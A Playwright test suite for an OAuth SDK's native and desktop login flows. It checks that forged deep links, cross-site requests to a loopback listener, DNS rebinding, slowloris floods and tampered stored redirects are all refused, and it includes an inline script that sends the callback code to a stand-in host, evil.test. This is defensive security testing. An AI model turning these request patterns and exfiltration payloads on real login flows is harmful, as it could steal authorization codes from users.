// NA. Native, desktop and extension apps (RFC 8252): the links an operating system hands an app, the
// per-login overrides, a durable store after a cold start, and a desktop app's loopback listener,
// attacked from a web page in the user's browser and from other programs on the machine.
//
// The web view of a native app is a page of the app origin (rp.test) with a client of its own: a
// private-use redirect URI, a durable store (localStorage stands in for the Keychain), and a navigate
// that only records the URL, as Browser.open() would hand it to the system browser. The provider's
// answer is minted by the test (the "operating system" delivers it as a deep link). The desktop app
// is this Node process, with the SDK as the package ships it and a browser context as its system
// browser; the hostile provider then redirects to the app's loopback listener.
import { test as nodeTest, type Browser, type Page } from '@playwright/test';
import * as http from 'node:http';
import { request as httpsRequest } from 'node:https';
import { connect, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { AuthClient, type StorageAdapter } from '../../dist/index.js';
import { listenForCallback, loopbackLogin } from '../../dist/loopback.js';
import { canListenOn, connectOutcome, request as rawRequest } from '../native/raw-socket.js';
import type { HostileProvider } from './provider.js';
import { CLIENT_ID, type HostileWorld } from './server.js';
import { expect, test } from './fixtures.js';

const REDIRECT = 'com.example.app:/callback';
const LOGOUT = 'com.example.app:/logout';
const FIFTEEN_MINUTES = 15 * 60_000;

// ---------------------------------------------------------------------------------------------
// The web view of a native app.

/** Outcome of a client call in the page, as plain data. */
interface Outcome {
  ok: boolean;
  kind?: string;
  sub?: string;
  returnTo?: string;
  name?: string;
  code?: string;
  option?: string;
}

/** Opens (or cold-starts) the app's web view: a page of the app origin with a native client. */
async function openNativeApp(page: Page, world: HostileWorld, options: { clientId?: string; skewMs?: number } = {}): Promise<void> {
  await page.goto(`${world.app}/`);
  await page.waitForFunction(() => (window as any).ready === true);
  await page.evaluate(
    async ({ issuer, clientId, redirectUri, postLogout, skewMs }) => {
      const w = window as any;
      w.skewMs = skewMs;
      const { isCallbackUrl } = await import('/dist/native.js' as string);
      const durable = {
        get: (key: string) => localStorage.getItem(key),
        set: (key: string, value: string) => localStorage.setItem(key, value),
        remove: (key: string) => localStorage.removeItem(key),
        keys: () => Object.keys(localStorage),
      };
      const opened: string[] = [];
      const client = new w.sdk.AuthClient({
        issuer,
        clientId,
        redirectUri,
        postLogoutRedirectUri: postLogout,
        storage: durable,
        navigate: (url: string) => void opened.push(url),
        requestTimeoutSeconds: 3,
        now: () => Date.now() + (w.skewMs ?? 0),
      });
      const outcome = (promise: Promise<any>) =>
        Promise.resolve(promise).then(
          (result) => ({ ok: true, kind: result?.kind, sub: result?.user?.sub, returnTo: result?.returnTo }),
          (error) => ({ ok: false, name: error?.name, code: error?.code, option: error?.option }),
        );
      w.native = {
        client,
        opened,
        outcome,
        isCallback: (url: string) => isCallbackUrl(url, redirectUri),
        handle: (url: string) => outcome(client.handleRedirect(url)),
        callback: (url: string) => outcome(client.handleCallback(url)),
        login: (loginOptions?: object) => outcome(client.login(loginOptions)),
      };
    },
    { issuer: world.op.issuer, clientId: options.clientId ?? CLIENT_ID, redirectUri: REDIRECT, postLogout: LOGOUT, skewMs: options.skewMs ?? 0 },
  );
}

/** Starts a login in the web view; resolves with the authorization URL it opened. */
async function startLogin(page: Page, options: object = {}): Promise<string> {
  const result = await page.evaluate((o) => (window as any).native.login(o), options);
  expect(result).toEqual({ ok: true });
  return page.evaluate(() => (window as any).native.opened.at(-1) as string);
}

/** What the provider sends back for `authorization` once the user signed in: a valid code, at `at` (default its redirect_uri). */
function answer(op: HostileProvider, authorization: string, at?: string): string {
  const params = new URL(authorization).searchParams;
  const callback = new URL(at ?? (params.get('redirect_uri') as string));
  callback.search = new URLSearchParams({ code: op.mintCode(params, 'alice'), state: params.get('state') as string, iss: op.issuer }).toString();
  return callback.href;
}

const native = (page: Page, method: 'handle' | 'callback', url: string): Promise<Outcome> => page.evaluate(([m, u]) => (window as any).native[m](u), [method, url] as const);
const isCallback = (page: Page, url: string): Promise<boolean> => page.evaluate((u) => (window as any).native.isCallback(u), url);
/** Every key the web view's durable store holds for a pending login or a session. */
const stored = (page: Page) =>
  page.evaluate(() => ({
    pending: Object.keys(localStorage).filter((key) => key.startsWith('oidc-session:') && key.includes(':txn:')),
    sessions: Object.keys(localStorage).filter((key) => key.endsWith(':session')),
  }));
/** Forgets every pending login in the durable store (a login given up). */
const clearPending = (page: Page) => page.evaluate(() => Object.keys(localStorage).filter((k) => k.includes(':txn:')).forEach((k) => localStorage.removeItem(k)));
/** Changes fields of the pending login in the durable store, as something with access to it could. */
const tamper = (page: Page, change: Record<string, unknown> | 'junk') =>
  page.evaluate((c) => {
    for (const key of Object.keys(localStorage).filter((k) => k.includes(':txn:'))) {
      localStorage.setItem(key, c === 'junk' ? '{"v":1}' : JSON.stringify({ ...JSON.parse(localStorage.getItem(key) as string), ...c }));
    }
  }, change);

// ---------------------------------------------------------------------------------------------
// A desktop app in this Node process, and its system browser.

/** The desktop app's store: a Map stands in for the keychain. */
function desktopStore(): StorageAdapter & { map: Map<string, string> } {
  const map = new Map<string, string>();
  return { map, get: (key) => map.get(key), set: (key, value) => void map.set(key, value), remove: (key) => void map.delete(key), keys: () => [...map.keys()] };
}

/**
 * fetch for this Node process to reach the world's *.test hosts (one HTTPS server on loopback, a
 * certificate made for the run) the way the browser does through its host mapping.
 */
function worldFetch(world: HostileWorld): typeof fetch {
  return (input, init = {}) =>
    new Promise<Response>((resolve, reject) => {
      const url = new URL(input instanceof Request ? input.url : String(input));
      if (!url.hostname.endsWith('.test')) return reject(new TypeError(`not a host of the world: ${url.host}`));
      const body = init.body === undefined || init.body === null ? undefined : String(init.body);
      const headers: Record<string, string> = { host: url.host, ...(init.headers as Record<string, string> | undefined) };
      if (body !== undefined) Object.assign(headers, { 'content-type': 'application/x-www-form-urlencoded;charset=UTF-8', 'content-length': String(Buffer.byteLength(body)) });
      const outgoing = httpsRequest(
        { host: '127.0.0.1', port: world.port, servername: url.hostname, rejectUnauthorized: false, method: init.method ?? 'GET', path: url.pathname + url.search, headers, signal: init.signal ?? undefined },
        (incoming) => {
          const chunks: Buffer[] = [];
          incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
          incoming.on('error', reject);
          incoming.on('end', () => {
            const responseHeaders = new Headers();
            for (let i = 0; i + 1 < incoming.rawHeaders.length; i += 2) responseHeaders.append(incoming.rawHeaders[i] as string, incoming.rawHeaders[i + 1] as string);
            const status = incoming.statusCode ?? 500;
            resolve(new Response([204, 205, 304].includes(status) ? null : new Uint8Array(Buffer.concat(chunks)), { status, headers: responseHeaders }));
          });
        },
      );
      outgoing.on('error', reject);
      outgoing.end(body);
    });
}

/** The desktop app's client: a loopback redirect URI (any port, RFC 8252 §7.3), a store of its own. */
function desktopApp(world: HostileWorld, storage = desktopStore()): AuthClient {
  return new AuthClient({ issuer: world.op.issuer, clientId: CLIENT_ID, redirectUri: 'http://127.0.0.1/callback', storage, fetch: worldFetch(world), requestTimeoutSeconds: 3 });
}

/** The provider, registered for http://127.0.0.1 on any port: signs the user in at once and redirects to the listener. */
function redirectToLoopback(op: HostileProvider): void {
  op.scenario = {
    authorize: (params) => {
      const to = new URL(params.get('redirect_uri') ?? '');
      if (to.protocol !== 'http:' || to.hostname !== '127.0.0.1' || to.pathname !== '/callback') return { status: 400, body: 'unregistered redirect_uri' };
      to.search = new URLSearchParams({ code: op.mintCode(params, 'alice'), state: params.get('state') as string, iss: op.issuer }).toString();
      return { status: 302, headers: { location: to.href } };
    },
  };
}

/**
 * The user's system browser: a context of its own (its pages' own errors are not the app's).
 * `visit(url)` is the navigation that brings the callback back: the login may complete (and the test
 * end) before its page has loaded, so `done()` waits for it before closing the browser.
 */
async function systemBrowser(browser: Browser): Promise<Page & { visit(url: string): Promise<void>; done(): Promise<void> }> {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const page = await context.newPage();
  const visits: Promise<unknown>[] = [];
  return Object.assign(page, {
    visit: async (url: string) => {
      const visit = page.goto(url);
      visits.push(visit.catch(() => undefined));
      await visit;
    },
    done: async () => {
      await Promise.all(visits);
      await context.close();
    },
  });
}

/** Where a redirect URI listens. */
const portOf = (authorization: string) => Number(new URL(new URL(authorization).searchParams.get('redirect_uri') as string).port);
const stateOf = (authorization: string) => new URL(authorization).searchParams.get('state') as string;

interface SeenRequest {
  port: number;
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  status?: number;
}

/**
 * Every request Node's HTTP servers in this process hand to a listener, and the status it got: the
 * loopback listener reports only the callback, and the attacks below must be seen to arrive.
 */
function watchHttpRequests(): { seen: SeenRequest[]; stop(): void } {
  const proto = http.Server.prototype as http.Server & { emit: (event: string | symbol, ...args: unknown[]) => boolean };
  const own = Object.prototype.hasOwnProperty.call(proto, 'emit');
  const original = proto.emit;
  const seen: SeenRequest[] = [];
  proto.emit = function (this: http.Server, event: string | symbol, ...args: unknown[]) {
    if (event === 'request' || event === 'checkContinue' || event === 'checkExpectation') {
      const [incoming, response] = args as [http.IncomingMessage, http.ServerResponse];
      const address = this.address();
      const entry: SeenRequest = { port: typeof address === 'object' && address ? address.port : 0, method: incoming.method ?? '', url: incoming.url ?? '', headers: incoming.headers };
      seen.push(entry);
      response.once('finish', () => (entry.status = response.statusCode));
    }
    return original.call(this, event, ...args);
  };
  return {
    seen,
    stop: () => {
      if (own) proto.emit = original;
      else delete (proto as Partial<typeof proto>).emit;
    },
  };
}

/**
 * Run in a page of another site that knows the listener's URL and even the login's state: every way a
 * page can make the browser send a request there without a top-level navigation of its own.
 */
async function attackFromPage(target: string): Promise<Record<string, unknown>> {
  const settle = (promise: Promise<unknown>) => promise.then(() => 'answered', () => 'failed');
  const element = (tag: string, attribute: string, extra: Record<string, string> = {}) =>
    new Promise<string>((resolve) => {
      const node = document.createElement(tag);
      for (const [name, value] of Object.entries(extra)) node.setAttribute(name, value);
      node.addEventListener('load', () => resolve('load'));
      node.addEventListener('error', () => resolve('error'));
      setTimeout(() => resolve('no event'), 3000);
      node.setAttribute(attribute, target);
      document.body.append(node);
    });
  const form = (method: string) =>
    new Promise<string>((resolve) => {
      const name = `frame-${method}`;
      const frame = document.createElement('iframe');
      frame.name = name;
      document.body.append(frame);
      frame.addEventListener('load', () => resolve('load'));
      setTimeout(() => resolve('no event'), 3000);
      const sheet = document.createElement('form');
      sheet.method = method;
      sheet.action = target;
      sheet.target = name;
      // A GET form replaces the query with its fields: they carry the response.
      for (const [key, value] of new URL(target).searchParams) {
        const input = document.createElement('input');
        input.name = key;
        input.value = value;
        sheet.append(input);
      }
      document.body.append(sheet);
      sheet.submit();
    });
  const stream = () =>
    new Promise<string>((resolve) => {
      const source = new EventSource(target);
      source.onopen = () => (source.close(), resolve('open'));
      source.onerror = () => (source.close(), resolve('error'));
    });
  const socket = () =>
    new Promise<string>((resolve) => {
      const ws = new WebSocket(target.replace(/^http/, 'ws'));
      ws.onopen = () => (ws.close(), resolve('open'));
      ws.onerror = () => resolve('error');
      setTimeout(() => resolve('no event'), 3000);
    });
  return {
    fetch: await settle(fetch(target)),
    noCorsFetch: await settle(fetch(target, { mode: 'no-cors' })),
    post: await settle(fetch(target, { method: 'POST', mode: 'no-cors', body: 'x' })),
    beacon: navigator.sendBeacon(target, 'x'),
    image: await element('img', 'src'),
    script: await element('script', 'src'),
    stylesheet: await element('link', 'href', { rel: 'stylesheet' }),
    prefetch: await element('link', 'href', { rel: 'prefetch' }),
    frame: await element('iframe', 'src'),
    object: await element('object', 'data'),
    formGet: await form('GET'),
    formPost: await form('POST'),
    eventSource: await stream(),
    webSocket: await socket(),
  };
}

// ---------------------------------------------------------------------------------------------
// Deep links.

test('NA-01 foreign deep links (another scheme, host, path, userinfo, a forged state) are refused and cost the pending login nothing', async ({ page, world }) => {
  await openNativeApp(page, world);
  const authorization = await startLogin(page);
  const genuine = answer(world.op, authorization);
  const state = stateOf(authorization);
  const query = new URL(genuine).search;

  // What the app's deep-link listener asks of every link, in this browser's URL parser.
  const foreign = [
    `com.example.evil:/callback${query}`,
    `com.example.app.evil:/callback${query}`,
    `com.example:/callback${query}`,
    `com.example.app:/other${query}`,
    `com.example.app:/callback/x${query}`,
    `com.example.app:/callback/${query}`,
    `com.example.app:/callback/..${query}`,
    `com.example.app:/CALLBACK${query}`,
    `com.example.app:/%63allback${query}`,
    `com.example.app:/callback%2F${query}`,
    `com.example.app:/callback%3F${query}`,
    `com.example.app:\\callback${query}`,
    `com.example.app:callback${query}`,
    `com.example.app://callback${query}`,
    `com.example.app:///callback${query}`,
    `com.example.app://evil.test/callback${query}`,
    `com.example.app://user@evil.test/callback${query}`,
    `com.example.app:/.//callback${query}`,
    `com.example.app:/callback#${query.slice(1)}`,
    `${world.app}/callback${query}`,
    `${world.evil.origin}/callback${query}`,
    `${REDIRECT}?code=x`,
    `${REDIRECT}?state=${state}`,
    `${LOGOUT}${query}`,
  ];
  for (const link of foreign) expect(await isCallback(page, link), link).toBe(false);
  // What the URL standard itself makes the same URL is the same URL here, and only that.
  for (const link of [`COM.Example.APP:/callback${query}`, `com.example.app:/x/../callback${query}`, `com.example.app:/call\tback${query}`]) {
    expect(await isCallback(page, link), link).toBe(true);
    expect(await page.evaluate((l) => new URL(l).href.split('?')[0], link)).toBe(REDIRECT);
  }

  // Links handed to handleRedirect() anyway, with a state nobody issued: refused, nothing spent.
  for (const forged of [`${REDIRECT}?state=forged&code=x`, `${REDIRECT}?state=${state}x&code=x`, `${REDIRECT}?state=${state.slice(1)}&code=x`, `${REDIRECT}?state=${state.toUpperCase()}&code=${new URL(genuine).searchParams.get('code')}`]) {
    expect(await native(page, 'handle', forged), forged).toMatchObject({ ok: false, name: 'ProtocolError', code: 'state_mismatch' });
  }
  // A link to another page of the app is no login response.
  expect(await native(page, 'handle', 'com.example.app:/product/42?ref=mail')).toEqual({ ok: true, kind: 'none' });
  expect(world.op.count('token')).toBe(0);
  expect(await stored(page)).toEqual({ pending: [expect.any(String)], sessions: [] });

  // The genuine link still completes the login, once.
  expect(await native(page, 'handle', genuine)).toMatchObject({ ok: true, kind: 'login', sub: 'alice' });
  expect(world.op.count('token', 'authorization_code')).toBe(1);
  await openNativeApp(page, world);
  expect(await native(page, 'handle', genuine)).toMatchObject({ ok: false, name: 'ProtocolError', code: 'transaction_not_found' });
  expect(world.op.count('token', 'authorization_code')).toBe(1);
});

test('NA-02 a response at the wrong scheme, host, path or port given to handleCallback is refused: no token request, nothing stored', async ({ page, world }) => {
  await openNativeApp(page, world);
  const elsewhere = [
    'com.example.app:/other',
    'com.example.evil:/callback',
    'com.example.app://callback',
    'com.example.app:/callback/',
    `${world.app}/callback`,
    `${world.evil.origin}/callback`,
  ];
  // handleCallback() is told it is a callback: the pending login's redirect URI decides, not the caller.
  for (const at of elsewhere) {
    const authorization = await startLogin(page);
    expect(await native(page, 'callback', answer(world.op, authorization, at)), at).toMatchObject({ ok: false, name: 'ProtocolError', code: 'invalid_callback' });
  }
  // A per-login redirect URI (a loopback port chosen for this login): the configured one, or another port, is not it.
  for (const at of ['http://127.0.0.1:53124/callback', 'http://127.0.0.1/callback', 'http://[::1]:53123/callback', 'http://localhost:53123/callback']) {
    const authorization = await startLogin(page, { redirectUri: 'http://127.0.0.1:53123/callback' });
    expect(await native(page, 'callback', answer(world.op, authorization, at)), at).toMatchObject({ ok: false, name: 'ProtocolError', code: 'invalid_callback' });
  }
  expect(world.op.count('token')).toBe(0);
  expect((await stored(page)).sessions).toEqual([]);
  expect(await page.evaluate(() => (window as any).native.client.state.status)).toBe('anonymous');
  expect(world.evil.hits).toEqual([]);
});

// ---------------------------------------------------------------------------------------------
// The desktop app's loopback listener.

test('NA-03 a loopback request from a second local client (another state, a guessed one, an older login\'s, a foreign Host) does not end the login', async ({ browser, world }) => {
  redirectToLoopback(world.op);
  const storage = desktopStore();
  const app = desktopApp(world, storage);
  const user = await systemBrowser(browser);
  try {
    const pending = () => [...storage.map.keys()].filter((key) => key.includes(':txn:'));
    // A login whose listener timed out leaves nothing pending.
    await expect(loopbackLogin(app, { open: () => undefined, timeoutMs: 300 })).rejects.toMatchObject({ name: 'LoopbackError', code: 'timeout' });
    expect(pending()).toHaveLength(0);
    // An older login of the same app, abandoned in the browser while the app restarted: its pending
    // login is still in the store, and its code would be redeemable.
    let older = '';
    await app.login({ navigate: (url) => void (older = url) });
    expect(pending()).toHaveLength(1);

    const probes: Record<string, number> = {};
    const result = await loopbackLogin(app, {
      open: async (url) => {
        const redirect = new URL(url).searchParams.get('redirect_uri') as string;
        const state = stateOf(url);
        const port = portOf(url);
        const send = async (query: string) => (await fetch(`${redirect}?${query}`)).status;
        probes.another = await send('state=someone-else&code=forged');
        probes.guessed = await send(`state=${'A'.repeat(state.length)}&code=forged`);
        probes.truncated = await send(`state=${state.slice(0, -1)}&code=forged`);
        probes.caseChanged = await send(`state=${state.toUpperCase()}&code=forged`);
        probes.twice = await send(`state=${state}&state=${state}&code=forged`);
        const olderAnswer = new URL(answer(world.op, older));
        probes.olderLogin = await send(olderAnswer.search.slice(1));
        probes.foreignHost = (await rawRequest(port, `/callback?state=${state}&code=forged`, { host: `localhost:${port}` })).status;
        probes.noHost = (await rawRequest(port, `/callback?state=${state}&code=forged`, { host: null })).status;
        probes.absoluteForm = (await rawRequest(port, `http://127.0.0.1:${port}/callback?state=${state}&code=forged`)).status;
        probes.dotSegment = (await rawRequest(port, `/x/../callback?state=${state}&code=forged`)).status;
        await user.visit(url);
      },
    });
    expect(probes).toEqual({ another: 400, guessed: 400, truncated: 400, caseChanged: 400, twice: 400, olderLogin: 400, foreignHost: 421, noHost: 400, absoluteForm: 400, dotSegment: 404 });
    expect(result).toMatchObject({ kind: 'login', user: { sub: 'alice' } });
    // The one token request is this login's: neither the forged codes nor the older login's were sent.
    expect(world.op.count('token', 'authorization_code')).toBe(1);
    expect(app.state.status).toBe('authenticated');
  } finally {
    app.dispose();
    await user.done();
  }
});

test('NA-04 a web page in the user\'s browser cannot end the loopback wait, even knowing the state: fetch, beacon, image, script, style, prefetch, frame, object, forms, EventSource and WebSocket', async ({ browser, world }) => {
  redirectToLoopback(world.op);
  const app = desktopApp(world);
  const user = await systemBrowser(browser);
  const watch = watchHttpRequests();
  let port = 0;
  try {
    let outcomes: Record<string, unknown> = {};
    let wrongStatus: number | undefined;
    const result = await loopbackLogin(app, {
      open: async (url) => {
        port = portOf(url);
        const target = `http://127.0.0.1:${port}/callback?state=${stateOf(url)}&code=from-a-web-page`;
        await user.goto(`${world.evil.origin}/`);
        outcomes = await user.evaluate(attackFromPage, target);
        // A top-level navigation is the provider's way back: from the page, with any other state, refused.
        wrongStatus = (await user.goto(`http://127.0.0.1:${port}/callback?state=guessed&code=from-a-web-page`))?.status();
        await user.visit(url);
      },
    });
    expect(result).toMatchObject({ kind: 'login', user: { sub: 'alice' } });
    expect(wrongStatus).toBe(400);
    const arrived = watch.seen.filter((seen) => seen.port === port);
    const accepted = arrived.filter((seen) => seen.status === 200);
    // Only the provider's redirect was taken; every request the page made that arrived was refused.
    expect(accepted.map((seen) => new URL(seen.url, 'http://x').searchParams.get('code')), JSON.stringify(outcomes)).toEqual([expect.not.stringMatching(/from-a-web-page/)]);
    for (const seen of arrived.filter((s) => s !== accepted[0])) expect(seen.status, `${seen.method} ${JSON.stringify(seen.headers)}`).toBeGreaterThanOrEqual(400);
    // The browser did send them: the refusals above are the listener's, not the browser's.
    expect(arrived.filter((seen) => seen.url.includes('from-a-web-page')).length, JSON.stringify(arrived.map((s) => [s.method, s.headers['sec-fetch-mode'], s.headers['sec-fetch-dest'], s.status]))).toBeGreaterThanOrEqual(6);
    expect(world.op.count('token', 'authorization_code')).toBe(1);
  } finally {
    watch.stop();
    app.dispose();
    await user.done();
  }
});

test('NA-05 DNS rebinding: the right state at the listener\'s port under another name (a rebound host, the app\'s host, localhost, 0.0.0.0, IPv4-mapped IPv6) is refused', async ({ browser, world }) => {
  redirectToLoopback(world.op);
  const app = desktopApp(world);
  const user = await systemBrowser(browser);
  try {
    const outcomes: Record<string, number | string> = {};
    const result = await loopbackLogin(app, {
      open: async (url) => {
        const port = portOf(url);
        const query = `/callback?state=${stateOf(url)}&code=rebound`;
        // evil.test and rp.test resolve to 127.0.0.1 here, as a rebound name does.
        for (const origin of [`http://evil.test:${port}`, `http://rp.test:${port}`, `http://localhost:${port}`, `http://0.0.0.0:${port}`, `http://[::ffff:127.0.0.1]:${port}`]) {
          outcomes[origin.replace(String(port), 'PORT')] = await user.goto(origin + query).then(
            (response) => response?.status() ?? 'no response',
            () => 'not connected',
          );
        }
        await user.visit(url);
      },
    });
    for (const [origin, outcome] of Object.entries(outcomes)) expect([421, 'not connected'], origin).toContain(outcome);
    // The browser reached the listener under a rebound name, and was refused for it.
    expect(outcomes['http://evil.test:PORT']).toBe(421);
    expect(result).toMatchObject({ kind: 'login', user: { sub: 'alice' } });
    expect(world.op.count('token', 'authorization_code')).toBe(1);
  } finally {
    app.dispose();
    await user.done();
  }
});

/** This machine's addresses other than loopback. */
function externalAddresses(): string[] {
  return Object.values(networkInterfaces())
    .flat()
    .filter((info) => info !== undefined && !info.internal && info.family === 'IPv4')
    .map((info) => (info as { address: string }).address);
}

nodeTest('NA-06 the listener answers on its own loopback address only, and only while the login is in flight', async () => {
  const listener = await listenForCallback({ expectedState: 'the-state', timeoutMs: 20_000 });
  const port = Number(new URL(listener.redirectUri).port);
  expect(await connectOutcome(port, '127.0.0.1')).toBe('connected');
  // Not the rest of 127/8, not the network, not IPv6.
  for (const address of ['127.0.0.2', '127.1.2.3', ...externalAddresses()]) expect(await connectOutcome(port, address), address).not.toBe('connected');
  if (await canListenOn('::1')) expect(await connectOutcome(port, '::1')).not.toBe('connected');
  // 0.0.0.0 reaches loopback on Linux: then the name is wrong.
  if ((await connectOutcome(port, '0.0.0.0')) === 'connected') {
    expect((await rawRequest(port, '/callback?state=the-state&code=c', { address: '0.0.0.0', host: `0.0.0.0:${port}` })).status).toBe(421);
  }
  expect((await rawRequest(port, '/callback?state=the-state&code=c')).status).toBe(200);
  await expect(listener.callback).resolves.toBe(`${listener.redirectUri}?state=the-state&code=c`);
  expect(await connectOutcome(port, '127.0.0.1')).toBe('ECONNREFUSED');

  if (await canListenOn('::1')) {
    const v6 = await listenForCallback({ host: '::1', expectedState: 's', timeoutMs: 20_000 });
    const v6Port = Number(new URL(v6.redirectUri).port);
    expect(v6.redirectUri).toBe(`http://[::1]:${v6Port}/callback`);
    expect(await connectOutcome(v6Port, '127.0.0.1')).not.toBe('connected');
    await v6.close();
  }
});

/** A connection that sends `bytes` one at a time, every `everyMs`, and never finishes. */
function dribble(port: number, bytes: string, everyMs: number): { socket: Socket; closed: Promise<void>; stop(): void } {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  let i = 0;
  const timer = setInterval(() => (i < bytes.length && !socket.destroyed ? socket.write(bytes[i++] as string) : undefined), everyMs);
  socket.once('close', () => clearInterval(timer));
  return { socket, closed, stop: () => clearInterval(timer) };
}

nodeTest('NA-07 slow, idle and unfinished connections (slowloris, header floods) do not keep the browser\'s callback out, and are cut when the login ends', async () => {
  const listener = await listenForCallback({ expectedState: 'the-state', timeoutMs: 30_000 });
  const port = Number(new URL(listener.redirectUri).port);
  const hold: ReturnType<typeof dribble>[] = [];
  try {
    // A request that takes forever to arrive, with the right state; one that never ends its headers;
    // idle connections (a browser's preconnects); and headers just under Node's limit, unfinished.
    for (let i = 0; i < 60; i++) hold.push(dribble(port, `GET /callback?state=the-state&code=slow${i} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`, 200));
    for (let i = 0; i < 60; i++) hold.push(dribble(port, '', 1000));
    for (let i = 0; i < 20; i++) {
      const flood = dribble(port, '', 1000);
      flood.socket.write(`GET /callback HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nX-Pad: ${'a'.repeat(15 * 1024)}\r\n`);
      hold.push(flood);
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    const started = Date.now();
    const response = await fetch(`${listener.redirectUri}?state=the-state&code=the-browser`);
    expect(response.status).toBe(200);
    expect(Date.now() - started).toBeLessThan(3000);
    await expect(listener.callback).resolves.toBe(`${listener.redirectUri}?state=the-state&code=the-browser`);
    // Every connection still held open is dropped once the login is over.
    const dropped = await Promise.race([Promise.all(hold.map((h) => h.closed)).then(() => true), new Promise((resolve) => setTimeout(() => resolve(false), 3000))]);
    expect(dropped).toBe(true);
    expect(await connectOutcome(port, '127.0.0.1')).toBe('ECONNREFUSED');
  } finally {
    for (const h of hold) {
      h.stop();
      h.socket.destroy();
    }
    await listener.close();
  }
});

/** What reached evil.test, but the icon a browser asks every site for. */
const evilHits = (world: HostileWorld) => world.evil.hits.filter((hit) => hit !== 'GET /favicon.ico');

test('NA-08 the page the browser lands on carries the code nowhere: nothing it loads or runs, no referrer for a link or a redirect, nothing kept for a reload', async ({ browser, world }) => {
  const evil = world.evil.origin;
  const user = await systemBrowser(browser);
  try {
    // The app's own page, with everything a careless page could hold that would carry the URL away.
    const html = [
      '<!doctype html><title>Signed in</title>',
      `<a id="next" href="${evil}/next">continue</a>`,
      `<img src="${evil}/image"><link rel="stylesheet" href="${evil}/style"><link rel="prefetch" href="${evil}/prefetch">`,
      `<script src="${evil}/script"></script><script>fetch('${evil}/inline?' + location.search)</script>`,
      `<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object>`,
      `<style>body { background: url(${evil}/background) }</style>`,
      `<form action="${evil}/form" method="post"><button id="send">send</button></form>`,
    ].join('\n');
    const listener = await listenForCallback({ expectedState: 'the-state', page: { html } });
    const callback = `${listener.redirectUri}?state=the-state&code=the-code`;
    const response = await user.goto(callback);
    expect(response?.status()).toBe(200);
    expect(response?.headers()).toMatchObject({ 'cache-control': 'no-store', 'referrer-policy': 'no-referrer' });
    await expect(listener.callback).resolves.toBe(callback);
    expect(response?.headers()['content-security-policy']).toContain("form-action 'none'");
    await user.waitForTimeout(500);
    expect(evilHits(world), 'what the page loaded or sent').toEqual([]);

    // The user follows the page's link: the other site learns nothing of where they came from.
    await Promise.all([user.waitForURL(`${evil}/next`), user.click('#next')]);
    expect(await user.evaluate(() => document.referrer)).toBe('');
    expect(evilHits(world)).toEqual(['GET /next']);
    // The callback URL again (Back, a reload, the history): nothing answers, and no cache has a copy.
    expect(await user.goto(callback).then((r) => r?.status() ?? 'no response', () => 'not connected')).toBe('not connected');

    // A redirect to the app's site instead: it arrives without the code and without a referrer.
    world.evil.hits.length = 0;
    const redirecting = await listenForCallback({ expectedState: 'the-state', page: { redirectTo: `${evil}/after` } });
    // From a page of its own, as the provider's redirect comes from the provider's page (a new tab:
    // the last one is still showing its connection error).
    const tab = await user.context().newPage();
    await tab.goto(`${evil}/provider-page`);
    world.evil.hits.length = 0;
    await Promise.all([tab.waitForURL(`${evil}/after`), tab.evaluate((u) => location.assign(u), `${redirecting.redirectUri}?state=the-state&code=the-code`)]);
    expect(await tab.evaluate(() => document.referrer)).not.toContain('the-code');
    expect(evilHits(world)).toEqual(['GET /after']);
    await redirecting.close();
  } finally {
    await user.done();
  }
});

// ---------------------------------------------------------------------------------------------
// Cold start, and the per-login overrides.

test('NA-09 cold start with a durable store: a pending login past 15 minutes is refused and removed, another client id never uses one, a tampered one sends the code nowhere else', async ({ page, world }) => {
  // Past 15 minutes, and a clock set back as far (the device clock changed while the browser was open).
  for (const skewMs of [FIFTEEN_MINUTES + 5000, -(FIFTEEN_MINUTES + 5000)]) {
    await openNativeApp(page, world);
    const genuine = answer(world.op, await startLogin(page));
    await openNativeApp(page, world, { skewMs });
    expect(await native(page, 'handle', genuine), String(skewMs)).toMatchObject({ ok: false, name: 'ProtocolError', code: 'transaction_expired' });
    expect((await stored(page)).pending).toEqual([]);
  }
  expect(world.op.count('token')).toBe(0);

  // Another app (client id) on the same store: neither uses nor removes this app's pending login.
  await openNativeApp(page, world);
  const mine = answer(world.op, await startLogin(page));
  await openNativeApp(page, world, { clientId: 'another-app' });
  expect(await native(page, 'handle', mine)).toMatchObject({ ok: false, name: 'ProtocolError', code: 'transaction_not_found' });
  expect((await stored(page)).pending).toHaveLength(1);
  expect(world.op.count('token')).toBe(0);
  await openNativeApp(page, world);
  expect(await native(page, 'handle', mine)).toMatchObject({ ok: true, kind: 'login', sub: 'alice' });

  // Tampered while the app was not running.
  const tampered: [Record<string, unknown> | 'junk', Partial<Outcome>][] = [
    [{ redirectUri: `${world.evil.origin}/callback` }, { ok: false, name: 'ProtocolError', code: 'invalid_callback' }],
    [{ issuer: world.op2.issuer }, { ok: false, name: 'ProtocolError', code: 'issuer_mismatch' }],
    ['junk', { ok: false, name: 'ProtocolError', code: 'transaction_not_found' }],
  ];
  const tokenRequests = world.op.count('token');
  for (const [change, expected] of tampered) {
    await openNativeApp(page, world);
    await clearPending(page);
    const genuine = answer(world.op, await startLogin(page));
    await tamper(page, change);
    await openNativeApp(page, world);
    expect(await native(page, 'handle', genuine), JSON.stringify(change)).toMatchObject(expected);
  }
  expect(world.op.count('token')).toBe(tokenRequests);
  expect(world.op2.hits).toEqual([]);
  // Where to go afterwards: a path of the app only, whatever the store says.
  for (const returnTo of [`${world.evil.origin}/steal`, '//evil.test/steal', '/\\evil.test', 'javascript:alert(1)']) {
    await openNativeApp(page, world);
    await clearPending(page);
    const genuine = answer(world.op, await startLogin(page, { returnTo: '/settings' }));
    await tamper(page, { returnTo });
    await openNativeApp(page, world);
    expect(await native(page, 'handle', genuine), returnTo).toMatchObject({ ok: true, kind: 'login', returnTo: '/' });
  }
  expect(world.evil.hits).toEqual([]);
});

test('NA-10 per-login overrides from app input: a redirect URI that is no app URL is refused before anything is stored or opened; what navigate brings back completes only at the redirect URI', async ({ page, world }) => {
  await openNativeApp(page, world);
  const refused = [
    'javascript:alert(document.domain)',
